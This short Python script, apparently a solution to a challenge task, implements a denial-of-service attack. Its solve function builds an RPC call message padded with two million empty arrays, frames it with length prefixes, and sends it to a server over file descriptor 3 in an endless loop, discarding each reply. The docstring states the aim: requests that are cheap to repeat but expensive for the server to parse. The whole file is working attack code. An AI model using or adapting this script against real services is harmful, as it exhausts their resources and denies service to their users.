"""Asks the server small questions with large, cheap to repeat, dear to read arguments."""

import os
import struct

STOPPED = True


def solve(outside):
    text = b'["ask",1,"call",99,[' + b",".join([b"[]"] * 2_000_000) + b"],{}]"
    payload = struct.pack("<II", len(text), 0) + text
    frame = memoryview(struct.pack("<I", len(payload)) + payload)
    while True:
        left = frame
        while left:
            left = left[os.write(3, left) :]
        (size,) = struct.unpack("<I", os.read(3, 4))
        while size:
            size -= len(os.read(3, size))
